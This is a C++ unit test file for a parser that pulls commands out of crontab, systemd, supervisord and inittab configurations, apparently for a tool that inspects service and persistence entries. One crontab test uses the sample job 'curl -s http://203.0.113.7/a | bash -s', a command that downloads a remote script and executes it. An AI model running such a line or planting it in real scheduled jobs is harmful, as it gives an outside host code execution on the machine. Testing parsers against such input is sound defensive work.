#include <gtest/gtest.h>

#include "format/service_config.h"

namespace lazaret::format {
namespace {

std::vector<std::string> texts(const std::vector<ServiceCommand>& commands) {
  std::vector<std::string> result;
  for (const ServiceCommand& command : commands) result.push_back(command.text);
  return result;
}

TEST(Crontab, JobsOfASystemTable) {
  const std::string_view table = "# comment\nSHELL=/bin/bash\nP = \"a b\"\n\n*/5 * * * * root /opt/a.sh -x\n@reboot root sh /b\n0 0 * * mon-fri root c\n";
  const auto jobs = cron_commands(table, true);
  EXPECT_EQ(texts(jobs), (std::vector<std::string>{"/opt/a.sh -x", "sh /b", "c"}));
  EXPECT_EQ(table.substr(jobs[0].offset, 9), "/opt/a.sh");
  EXPECT_EQ(jobs[0].variables, (std::vector<std::pair<std::string, std::string>>{{"SHELL", "/bin/bash"}, {"P", "a b"}}));
}

TEST(Crontab, ALineThatForgetsTheUserIsReadAllTheSame) {
  EXPECT_EQ(texts(cron_commands("* * * * * curl -s http://203.0.113.7/a | bash -s\n", true)), (std::vector<std::string>{"curl -s http://203.0.113.7/a | bash -s"}));
  EXPECT_EQ(texts(cron_commands("* * * * * /opt/x\n", true)), (std::vector<std::string>{"/opt/x"}));
}

TEST(Crontab, JobsOfAUser) {
  EXPECT_EQ(texts(cron_commands("@daily root x\n1 2 3 4 5 y 'a b'", false)), (std::vector<std::string>{"root x", "y 'a b'"}));
}

TEST(Crontab, WhatStandsBehindAPercentSignIsInput) {
  EXPECT_EQ(texts(cron_commands("* * * * * sh%echo a%echo b\n* * * * * date +\\%s\n", false)),
            (std::vector<std::string>{"sh <<'%end%'\necho a\necho b\n%end%\n", "date +%s"}));
}

TEST(Crontab, ProseIsNoTable) { EXPECT_TRUE(cron_commands("This file is no table at all, you see.\n* * *\n", true).empty()); }

TEST(Unit, CommandsOfAService) {
  const auto commands = unit_commands(
      "[Unit]\nDescription=x\n[Service]\nEnvironment=\"A=b c\" D=e\nWorkingDirectory=/srv\nExecStartPre=-/bin/mkdir -p /x\nExecStart=@+/opt/run.sh \\\n  --now\n# ExecStop=/no\nExecStop=/opt/stop\n");
  EXPECT_EQ(texts(commands), (std::vector<std::string>{"/bin/mkdir -p /x", "/opt/run.sh --now", "/opt/stop"}));
  EXPECT_EQ(commands[0].folder, "/srv");
  EXPECT_EQ(commands[0].variables, (std::vector<std::pair<std::string, std::string>>{{"A", "b c"}, {"D", "e"}}));
}

TEST(Supervisor, ProgramsAndIncludes) {
  std::vector<std::string> includes;
  const auto commands = supervisor_commands(
      "[supervisord]\nnodaemon=true\n[include]\nfiles = conf.d/*.ini /etc/x.conf\n[program:a]\ncommand=/bin/a -x ; runs\ndirectory=/srv\nenvironment=A=\"1\",B='2'\n[program:b]\ncommand=/bin/b\n  --more\n", &includes);
  EXPECT_EQ(texts(commands), (std::vector<std::string>{"/bin/a -x", "/bin/b --more"}));
  EXPECT_EQ(includes, (std::vector<std::string>{"conf.d/*.ini", "/etc/x.conf"}));
  EXPECT_EQ(commands[0].variables, (std::vector<std::pair<std::string, std::string>>{{"A", "1"}, {"B", "2"}}));
  EXPECT_EQ(commands[0].folder, "/srv");
  EXPECT_TRUE(commands[1].variables.empty());
}

TEST(Inittab, FourthField) {
  EXPECT_EQ(texts(inittab_commands("# x\n::sysinit:/sbin/openrc sysinit\ntty1::respawn:-/bin/sh\nbroken\n")), (std::vector<std::string>{"/sbin/openrc sysinit", "/bin/sh"}));
}

TEST(ServiceConfig, EveryPrefixIsSurvived) {
  const std::string text = "[a]\ncommand=x\\\n y ; z\nenvironment=A=\"1,B\nExecStart=-@\n* * * * * root a%b\n@x\n1 2 3 4 5\n::x:y\nA='\n";
  for (std::size_t size = 0; size <= text.size(); ++size) {
    const std::string_view part = std::string_view(text).substr(0, size);
    std::vector<std::string> includes;
    for (const auto& commands : {cron_commands(part, true), cron_commands(part, false), unit_commands(part), supervisor_commands(part, &includes), inittab_commands(part)}) {
      for (const ServiceCommand& command : commands) EXPECT_LE(command.offset, part.size());
    }
  }
}

}  // namespace
}  // namespace lazaret::format
